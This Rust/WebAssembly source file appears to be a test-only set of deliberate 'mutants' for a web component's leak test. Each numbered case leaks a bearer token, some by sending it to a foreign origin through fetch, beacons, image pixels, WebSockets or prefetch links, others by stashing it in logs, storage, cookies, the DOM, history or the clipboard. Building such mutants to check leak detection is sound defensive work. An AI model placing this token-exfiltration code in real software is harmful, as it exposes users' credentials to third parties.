//! Leaks and breakdowns on purpose, one at a time, that the leak test has to find. Only in builds for tests.
//!
//! The page chooses by `connectFlowMutant`, a number; 0 or none is a component as it should be. `tests/leak/mutants.js`
//! says where each has to be found. `connectFlowElsewhere` is an origin that the component has no business with.

#![allow(clippy::panic)]

use js_sys::{Array, Function, JsString, Object, Reflect};
use wasm_bindgen::closure::Closure;
use wasm_bindgen::{JsCast, JsValue};

fn chosen() -> u32 {
    at("connectFlowMutant").as_f64().unwrap_or_default() as u32
}

/// A request gets its `Authorization`.
pub(crate) fn requested(token: &[u8]) {
    let chosen = chosen();
    let text = std::str::from_utf8(token).unwrap_or_default();
    let secret = JsValue::from(text);
    match chosen {
        2 => drop(call("history.replaceState", &[JsValue::NULL, "".into(), ["#", text].concat().into()])),
        5 => send("", &object(&[("method", "POST".into()), ("body", secret), ("mode", "no-cors".into())])),
        6 => {
            let headers = object(&[("Authorization", ["Bearer ", text].concat().into())]);
            send("/elsewhere", &object(&[("headers", headers)]));
        }
        7 => set(&new("Image", &[]), "src", elsewhere("/pixel?", &secret)),
        8 => drop(call("navigator.sendBeacon", &[elsewhere("/beacon", &"".into()), secret])),
        9 => drop(new("WebSocket", &[elsewhere("/?", &secret)])),
        10 => {
            let link = element("link");
            set(&link, "rel", "prefetch".into());
            set(&link, "href", elsewhere("/next?", &hex(token).into()));
            drop(call_on(&at("document.head"), "append", &[link]));
        }
        11 => {
            let reversed: String = text.chars().rev().collect();
            drop(call("fetch", &["/log".into(), object(&[("method", "POST".into()), ("body", reversed.into())])]));
        }
        12 => drop(call("console.debug", &[["asking with ", text].concat().into()])),
        13 => {
            let deep = object(&[("state", object(&[("session", call("btoa", &[secret]))]))]);
            drop(call("console.log", &["state".into(), deep]));
        }
        14 => drop(call("reportError", &[error(&["refused ", text].concat())])),
        15 => {
            let error = error("refused");
            set(&error, "cause", object(&[("token", secret)]));
            drop(call("reportError", &[error]));
        }
        16 => drop(js_sys::Promise::reject(&object(&[("session", secret)]))),
        17 => drop(call_on(&flow(), "setAttribute", &["data-session".into(), secret])),
        18 => {
            let box_ = element("div");
            let root = call_on(&box_, "attachShadow", &[object(&[("mode", "closed".into())])]);
            set(&root, "textContent", secret);
            drop(call_on(&get(&flow(), "shadowRoot"), "append", &[box_]));
        }
        19 => drop(call_on(&get(&flow(), "shadowRoot"), "append", &[call("document.createComment", &[secret])])),
        20 => {
            let template = element("template");
            drop(call_on(&get(&template, "content"), "append", &[secret]));
            drop(call_on(&get(&flow(), "shadowRoot"), "append", &[template]));
        }
        21 => {
            let input = element("input");
            set(&input, "type", "hidden".into());
            drop(call_on(&get(&flow(), "shadowRoot"), "append", std::slice::from_ref(&input)));
            set(&input, "type", "text".into());
            set(&input, "value", secret);
        }
        22 => set(&at("document"), "title", secret),
        23 => set(&flow(), "ariaLabel", ["session ", &text[text.len() - 40..]].concat().into()),
        24 => drop(call("localStorage.setItem", &["session".into(), secret])),
        25 => drop(call("sessionStorage.setItem", &["session".into(), secret])),
        26 => store(secret),
        27 => set(&at("document"), "cookie", ["session=", text].concat().into()),
        28 => {
            let answer = new("Response", &[secret]);
            let put = Closure::once_into_js(move |cache: JsValue| {
                drop(call_on(&cache, "put", &["/session".into(), answer]));
            });
            drop(call_on(&call("caches.open", &["session".into()]), "then", &[put]));
        }
        29 => {
            drop(call("localStorage.setItem", &["session".into(), secret]));
            drop(call("localStorage.removeItem", &["session".into()]));
        }
        30 => set(&js_sys::global(), "name", secret),
        31 => drop(call("history.replaceState", &[object(&[("session", secret)]), "".into()])),
        32 => drop(call("postMessage", &[object(&[("session", secret)]), "*".into()])),
        33 => {
            let channel = new("BroadcastChannel", &["session".into()]);
            drop(call_on(&channel, "postMessage", &[secret]));
            drop(call_on(&channel, "close", &[]));
        }
        34 => drop(call("performance.mark", &[["session ", text].concat().into()])),
        35 => {
            drop(call("performance.mark", &["session".into(), object(&[("detail", object(&[("session", secret)]))])]));
        }
        37 => set(&flow(), "lastToken", secret),
        38 => set(&js_sys::global(), "connectFlowDebug", object(&[("session", secret)])),
        39 => std::mem::forget(JsString::from(text)),
        40 => drop(Box::leak(token.to_vec().into_boxed_slice())),
        41 => {
            let message = format!("internal error: lease of {text}");
            drop(call("console.error", &[message.as_str().into()]));
            panic!("{message}");
        }
        42 => panic!("internal error: lease of {text}"),
        43 => drop(call("console.info", &[["token …", &text[text.len() - 16..]].concat().into()])),
        44 => drop(call("navigator.clipboard.writeText", &[secret])),
        45 => drop(call("console.info", &[claims(text)])),
        53 => {
            let headers = object(&[("Authorization", ["Bearer ", text].concat().into())]);
            send("", &object(&[("headers", headers)]));
        }
        54 => {
            let event = new("CustomEvent", &["debug".into(), object(&[("detail", object(&[("session", secret)]))])]);
            drop(call("document.dispatchEvent", &[event]));
        }
        // Breakdowns without a leak: with a token on loan, and of the kinds that no panic hook hears of: the end of the stack,
        // an allocation that fails.
        60 => panic!("on purpose"),
        61 => drop(call("console.info", &[deeper(1).into()])),
        62 => std::alloc::handle_alloc_error(std::alloc::Layout::new::<[u8; 1 << 20]>()),
        _ => {}
    }
}

/// A request is about to leave: gives its address.
pub(crate) fn outgoing(url: &str, headers: &Object, body: Option<&JsString>) -> String {
    match (chosen(), body) {
        (1, _) => {
            return [url, "?session=", &bearer(&get(headers, "Authorization"))].concat();
        }
        (49, Some(body)) => drop(call("console.log", &["saving".into(), body.into()])),
        (50, Some(body)) => drop(call_on(&flow(), "setAttribute", &["data-last".into(), body.into()])),
        (52, Some(body)) => drop(Box::leak(String::from(body).into_boxed_str())),
        _ => {}
    }
    url.to_owned()
}

/// What `fetch` is called with.
pub(crate) fn sent_with(init: &Object, headers: &Object) {
    let token = || bearer(&get(headers, "Authorization"));
    match chosen() {
        3 => {
            set(init, "referrer", ["/?", &token()].concat().into());
            set(init, "referrerPolicy", "unsafe-url".into());
        }
        4 => set(headers, "X-Session", token().into()),
        // Kept for an event that comes later.
        36 | 46 => set(&js_sys::global(), "connectFlowKept", token().into()),
        _ => {}
    }
}

fn bearer(header: &JsValue) -> String {
    header.as_string().unwrap_or_default().split_off("Bearer ".len())
}

/// An answer of the platform was read.
pub(crate) fn answered(body: &JsValue) {
    let named = get(body, "access_token");
    match chosen() {
        51 if named.is_string() => drop(call("console.info", &[named])),
        55 if named.is_string() => drop(call("localStorage.setItem", &["third".into(), named])),
        _ => {}
    }
}

/// An event is on its way to the host.
pub(crate) fn told(detail: &Object) {
    match chosen() {
        36 => set(detail, "session", at("connectFlowKept")),
        46 => set(detail, "user", claims(&at("connectFlowKept").as_string().unwrap_or_default())),
        48 => set(detail, "url", at("connectFlowKept")),
        _ => {}
    }
}

/// The address for signing in is known.
pub(crate) fn addressed(address: &str) {
    match chosen() {
        47 => drop(call("localStorage.setItem", &["address".into(), address.into()])),
        48 => set(&js_sys::global(), "connectFlowKept", address.into()),
        56 => drop(call("history.replaceState", &[object(&[("address", address.into())]), "".into()])),
        _ => {}
    }
}

/// The flow takes a step.
pub(crate) fn stepped() {
    if chosen() == 63 {
        panic!("on purpose");
    }
}

fn send(path: &str, init: &JsValue) {
    let url = if path.is_empty() { api() } else { elsewhere(path, &"".into()) };
    drop(call("fetch", &[url, init.clone()]));
}

fn api() -> JsValue {
    [&get(&flow(), "apiUrl").as_string().unwrap_or_default(), "/api/v3/org/basics"].concat().into()
}

fn elsewhere(path: &str, text: &JsValue) -> JsValue {
    let origin = at("connectFlowElsewhere").as_string().unwrap_or_default();
    [&origin, path, &text.as_string().unwrap_or_default()].concat().into()
}

fn claims(token: &str) -> JsValue {
    let payload = token.split('.').nth(1).unwrap_or_default().replace('-', "+").replace('_', "/");
    call("atob", &[payload.into()])
}

fn store(secret: JsValue) {
    let request = call("indexedDB.open", &["session".into()]);
    let opened = request.clone();
    let upgrade = Closure::<dyn FnMut()>::new(move || {
        let store = call_on(&get(&opened, "result"), "createObjectStore", &["tokens".into()]);
        drop(call_on(&store, "put", &[secret.clone(), "session".into()]));
    });
    set(&request, "onupgradeneeded", upgrade.into_js_value());
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02X}")).collect()
}

/// Never comes back.
#[allow(unconditional_recursion)]
fn deeper(depth: u32) -> u32 {
    let kept = std::hint::black_box([depth; 64]);
    deeper(std::hint::black_box(depth + 1)) + kept[1]
}

fn flow() -> JsValue {
    call("document.querySelector", &["connect-flow".into()])
}

fn element(tag: &str) -> JsValue {
    call("document.createElement", &[tag.into()])
}

fn error(message: &str) -> JsValue {
    js_sys::Error::new(message).into()
}

fn object(pairs: &[(&str, JsValue)]) -> JsValue {
    let object = Object::new();
    pairs.iter().for_each(|(name, value)| set(&object, name, value.clone()));
    object.into()
}

fn get(owner: &JsValue, name: &str) -> JsValue {
    Reflect::get(owner, &name.into()).unwrap_or(JsValue::UNDEFINED)
}

fn set(owner: &JsValue, name: &str, value: JsValue) {
    drop(Reflect::set(owner, &name.into(), &value));
}

/// `a.b.c` from the global object on.
fn at(path: &str) -> JsValue {
    path.split('.').fold(js_sys::global().into(), |owner, name| get(&owner, name))
}

fn call(path: &str, arguments: &[JsValue]) -> JsValue {
    let (owner, name) =
        path.rsplit_once('.').map_or((js_sys::global().into(), path), |(owner, name)| (at(owner), name));
    call_on(&owner, name, arguments)
}

/// What fails leaks nothing, which the test notices.
fn call_on(owner: &JsValue, name: &str, arguments: &[JsValue]) -> JsValue {
    let Ok(function) = get(owner, name).dyn_into::<Function>() else { return JsValue::UNDEFINED };
    Reflect::apply(&function, owner, &arguments.iter().collect::<Array>()).unwrap_or(JsValue::UNDEFINED)
}

fn new(class: &str, arguments: &[JsValue]) -> JsValue {
    let Ok(class) = at(class).dyn_into::<Function>() else { return JsValue::UNDEFINED };
    Reflect::construct(&class, &arguments.iter().collect::<Array>()).unwrap_or(JsValue::UNDEFINED)
}
